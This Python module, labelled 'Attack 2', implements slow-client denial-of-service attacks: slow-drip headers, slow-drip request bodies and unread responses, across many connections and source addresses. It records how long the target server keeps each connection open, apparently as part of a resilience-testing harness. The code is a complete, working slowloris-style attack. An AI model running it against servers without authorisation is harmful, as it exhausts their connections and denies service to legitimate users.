"""Attack 2: clients that are slow on purpose: headers and bodies by the byte, answers nobody reads."""

from __future__ import annotations

import socket
import time
from typing import Any, Literal

from sockets import Address, Crowd, Visitor, paced, raise_descriptor_limit, source

type Mode = Literal["headers", "body", "read"]
DRIP = 1.0
"""Seconds between two bytes of a slow header or body."""


def _ended(sock: socket.socket) -> bool:
    """Whether the other side has closed, though nothing is read: TCP is in CLOSE_WAIT (8) or CLOSE (7)."""
    return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] in (7, 8)


def slow(
    door: Address, mode: Mode, path: str, count: int, ramp: float, seconds: float, per_address: int
) -> dict[str, Any]:
    """`count` connections within `ramp` seconds, watched for `seconds`: how long each was open, how many are
    still open then."""
    raise_descriptor_limit()
    crowd = Crowd(door, keep=256, window=1 if mode == "read" else 0)
    dripping: list[Visitor] = []

    def connected(visitor: Visitor) -> None:
        if mode == "headers":
            crowd.send(visitor, f"GET {path} HTTP/1.1\r\nHost: attack\r\n".encode())
        elif mode == "body":
            kind = "Content-Type: application/json\r\nContent-Length: 4000\r\n\r\n{"
            crowd.send(visitor, f"POST {path} HTTP/1.1\r\nHost: attack\r\n{kind}".encode())
        else:
            crowd.send(visitor, f"GET {path} HTTP/1.1\r\nHost: attack\r\n\r\n".encode())
            crowd.pause(visitor)
            return
        dripping.append(visitor)

    def came(visitor: Visitor) -> None:
        if visitor.data and not visitor.state:
            visitor.state = visitor.data[:12].decode("latin-1")

    def drip() -> None:
        nonlocal dripping
        if mode == "read":
            for visitor in crowd.visitors:
                if not visitor.ended_at and visitor.connected_at and _ended(visitor.sock):
                    crowd.leave(visitor)
            return
        dripping = [visitor for visitor in dripping if not visitor.ended_at]
        for visitor in dripping:
            crowd.send(visitor, b"X-a: b\r\n" if mode == "headers" else b" ")

    next_drip = time.monotonic() + DRIP
    for number, due in paced(count, ramp):
        while (wait := due - time.monotonic()) > 0:
            crowd.turn(min(wait, 0.05), came)
        if time.monotonic() >= next_drip:
            drip()
            next_drip += DRIP
        crowd.turn(0, came)
        crowd.enter(source(number // per_address), connected)
    end = time.monotonic() + seconds
    while time.monotonic() < end and any(not visitor.ended_at for visitor in crowd.visitors):
        crowd.turn(0.05, came)
        if time.monotonic() >= next_drip:
            drip()
            next_drip += DRIP
    lasted = sorted(visitor.ended_at - visitor.began for visitor in crowd.visitors if visitor.ended_at)
    still = sum(1 for visitor in crowd.visitors if not visitor.ended_at)
    crowd.close()
    return {"lasted": lasted, "still_open": still, "made": len(crowd.visitors), "errors": dict(crowd.errors)}
